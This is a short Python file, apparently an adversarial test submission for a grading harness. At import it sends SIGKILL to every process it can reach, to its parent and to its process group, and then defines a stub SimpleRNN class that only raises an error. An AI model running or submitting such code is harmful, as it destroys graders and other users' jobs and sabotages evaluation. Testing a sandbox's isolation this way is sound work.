"""Hostile: tries to kill every process it may signal (the grader, other submissions)."""
import os
import signal

for target in (-1, os.getppid()):
    try:
        os.kill(target, signal.SIGKILL)
    except Exception:
        pass
try:
    os.killpg(0, signal.SIGKILL)
except Exception:
    pass


class SimpleRNN:
    def __init__(self, input_size, hidden_size, output_size):
        raise RuntimeError("nothing here")
